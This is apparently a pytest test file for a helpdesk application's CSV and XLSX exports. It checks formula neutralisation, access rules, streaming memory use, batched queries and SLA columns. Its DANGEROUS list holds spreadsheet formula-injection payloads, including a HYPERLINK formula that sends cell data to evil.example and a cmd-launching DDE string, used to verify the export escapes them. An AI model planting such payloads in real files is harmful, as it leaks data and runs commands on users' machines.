"""Exports of queues and search results: what a spreadsheet makes of them, who may download
them, and that they stream (memory does not grow with the number of rows)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import tracemalloc
from typing import Any

import pytest
from openpyxl import load_workbook

from helpdesk import exports, queues
from helpdesk.models import Incident

DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(1,1)", "\tindented=1", "\r=1+1"]


def csv_rows(response: Any) -> list[list[str]]:
    text = response.get_data(as_text=True).removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text)))


def queue_page_ids(client: Any, url: str) -> list[int]:
    """Every incident a queue page lists, following its Next links."""
    found: list[int] = []
    while url:
        body = client.get(url).get_data(as_text=True)
        section = body[body.index('id="queue-list"'):]
        found += [int(n) for n in re.findall(r'href="/incidents/(\d+)"', section)]
        following = re.search(r'<a href="([^"]+)" rel="next">', section)
        url = following.group(1).replace("&amp;", "&") if following else None
    return found


@pytest.fixture
def settings_overrides() -> dict[str, Any]:
    return {"page_size": 3}


def test_formula_cells_are_neutralised_in_csv_and_xlsx(app, personas, log_incident, login,
                                                        contact_factory):
    for text in DANGEROUS:
        log_incident(title=f"{text.strip() or 'x'} mail", description="",
                     requester=contact_factory(name=text))
    client = login(personas.owner)
    response = client.get("/queues/open/export?format=csv")
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="queue-open-')
    rows = csv_rows(response)
    requesters = {row[9] for row in rows[1:]}
    assert requesters == {"'" + text for text in DANGEROUS}
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(exports.FORMULA_START), cell

    response = client.get("/queues/open/export?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    # (XML reads a carriage return back as a line feed)
    assert {c.value for c in cells if c.column == 10} == {"'" + t.replace("\r", "\n") for t in DANGEROUS}
    assert all(c.data_type != "f" for c in cells)  # no cell is a formula

    response = client.get("/search/export?q=mail&format=csv")
    assert {row[9] for row in csv_rows(response)[1:]} == {"'" + text for text in DANGEROUS}


def test_safe_values_are_kept_exactly():
    assert exports.neutralise("Payroll slow") == "Payroll slow"
    assert exports.neutralise("a=b") == "a=b"
    assert exports.neutralise(42) == 42
    assert exports.neutralise("-") == "'-"


@pytest.mark.parametrize("queue", ["owned", "assigned", "teams", "open"])
def test_a_queue_export_holds_exactly_what_the_agent_sees_on_the_queue(app, personas, log_incident,
                                                                        login, queue):
    for n in range(4):
        log_incident(title=f"John's {n}")
    for n in range(3):
        log_incident(title=f"Sara's {n}", actor=personas.colleague,
                     assigned_team=personas.database_team, assigned_agent=personas.assignee)
    log_incident(title="Kofi's", actor=personas.other)
    for agent in (personas.owner, personas.assignee, personas.other):
        client = login(agent)
        url = f"/queues/{queue}?priority=3&sort=oldest"
        exported = [int(row[0].removeprefix("INC-"))
                    for row in csv_rows(client.get(f"/queues/{queue}/export?priority=3&sort=oldest"))[1:]]
        assert exported == queue_page_ids(client, url)
    # The queues differ by agent, so the comparison above is not between empty lists.
    mine = csv_rows(login(personas.owner).get("/queues/owned/export"))
    assert len(mine) - 1 == 4


def test_exports_refuse_what_the_page_refuses(app, personas, login):
    client = login(personas.owner)
    assert client.get("/queues/nope/export").status_code == 404
    assert client.get("/queues/open/export?status=exploded").status_code == 400
    assert client.get("/queues/open/export?format=pdf").status_code == 400
    assert client.get("/search/export?q=").status_code == 400
    anonymous = login(None)
    response = anonymous.get("/queues/open/export")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def _bulk_incidents(personas: Any, count: int) -> None:
    stamp = dt.datetime(2026, 1, 1)
    rows = [{"title": f"Bulk {n}", "owner_team": personas.service_desk.id, "status": "new",
             "created_at": stamp, "updated_at": stamp + dt.timedelta(seconds=n)} for n in range(count)]
    for start in range(0, count, 500):
        Incident.insert_many(rows[start:start + 500]).execute()


def _peak_bytes(personas: Any, fmt: str) -> tuple[int, int]:
    incidents = exports.queue_incidents("open", personas.owner, queues.Filters(), batch=100)
    chunks = exports.csv_chunks(incidents) if fmt == "csv" else exports.xlsx_chunks(incidents)
    tracemalloc.start()
    size = sum(len(chunk) for chunk in chunks)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return peak, size


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_stream_in_constant_memory(app, personas, fmt):
    with app.app_context():
        _bulk_incidents(personas, 600)
        small_peak, small_size = _peak_bytes(personas, fmt)
        _bulk_incidents(personas, 3000)
        large_peak, large_size = _peak_bytes(personas, fmt)
    assert large_size > 4 * small_size  # five times the rows ...
    assert large_peak < 1.5 * small_peak  # ... in about the same memory


def _export_with_queries(personas: Any, fmt: str, counter: Any, batch: int) -> tuple[int, int]:
    """(data rows in the file, SQL statements run while writing it)."""
    before = len(counter.queries)
    incidents = exports.queue_incidents("open", personas.owner, queues.Filters(), batch=batch)
    data = b"".join(chunk.encode() if isinstance(chunk, str) else chunk for chunk in
                    (exports.csv_chunks(incidents) if fmt == "csv" else exports.xlsx_chunks(incidents)))
    statements = len(counter.queries) - before
    if fmt == "csv":
        written = len(list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))) - 1
    else:
        written = load_workbook(io.BytesIO(data)).active.max_row - 1
    return written, statements


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_queries_follow_batches_not_rows(app, personas, count_queries, fmt):
    """Owner, assignee, requester and clocks come with each batch, never one row at a time."""
    with app.app_context():
        _bulk_incidents(personas, 40)
        few, few_statements = _export_with_queries(personas, fmt, count_queries, batch=500)
        _bulk_incidents(personas, 400)
        many, many_statements = _export_with_queries(personas, fmt, count_queries, batch=500)
        more, more_statements = _export_with_queries(personas, fmt, count_queries, batch=100)
    assert many == few + 400 and more == many  # every row is in the file ...
    assert many_statements == few_statements  # ... ten times the rows in one batch: same queries
    assert more_statements == many_statements + 2 * (-(-many // 100) - 1)  # two per extra batch


@pytest.mark.parametrize("helpdesk_bundled_plugins", [["sla_priority", "business_hours"]])
def test_a_queue_export_says_each_incidents_sla_due_time_and_breach(app, ctx, personas, log_incident, login,
                                                                     frozen_clock, sla_check,
                                                                     helpdesk_bundled_plugins):
    from helpdesk import incidents

    # Monday 2 March 2026 09:00 UTC; business hours Monday-Friday 09:00-17:00 UTC.
    log_incident(title="Printer jam", impact="medium", urgency="medium")  # 4 business hours
    answered = log_incident(title="Mail down, answered", impact="high", urgency="high")  # P1: 15 min, 4 h
    log_incident(title="VPN down, checked", impact="high", urgency="high")
    frozen_clock.set(dt.datetime(2026, 3, 2, 9, 10))
    with app.app_context():
        incidents.add_comment(ctx, answered.id, personas.owner, "On it", public=True)
    frozen_clock.set(dt.datetime(2026, 3, 2, 9, 20))
    assert sla_check() == 1  # the checked one's response breach (09:15), recorded
    log_incident(title="Phones down, not checked yet", impact="high", urgency="high")
    resolved = log_incident(title="Router down, resolved", impact="high", urgency="high")
    with app.app_context():
        incidents.change_status(ctx, resolved.id, personas.owner, "resolved", resolution_code="fixed",
                                note="Fixed")
    frozen_clock.set(dt.datetime(2026, 3, 2, 9, 40))  # the unchecked one's response ran out at 09:35

    client = login(personas.owner)
    for link in ("/queues/owned/export?format=csv", "/search/export?q=down&format=csv"):
        header, *rows = csv_rows(client.get(link))
        due, breached = header.index("SLA due (UTC)"), header.index("SLA breached")
        found = {row[1]: (row[due], row[breached]) for row in rows}
        expected = {
            "Mail down, answered": ("2026-03-02 13:00:00", "No"),  # response met: resolution, 4 h
            "VPN down, checked": ("", "Yes"),  # breached: no running due time is nearer than that
            "Phones down, not checked yet": ("2026-03-02 09:35:00", "Yes"),
        }
        if "queues" in link:  # the queue of what the owner has open
            expected["Printer jam"] = ("2026-03-02 13:00:00", "No")
        else:  # search finds the resolved one too: nothing left to meet
            expected["Router down, resolved"] = ("", "No")
        assert found == expected, link
    sheet = load_workbook(io.BytesIO(client.get("/queues/owned/export?format=xlsx").get_data())).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][-2:] == ["SLA due (UTC)", "SLA breached"]
    assert {row[1]: tuple(row[-2:]) for row in values[1:]}["Printer jam"] == ("2026-03-02 13:00:00", "No")
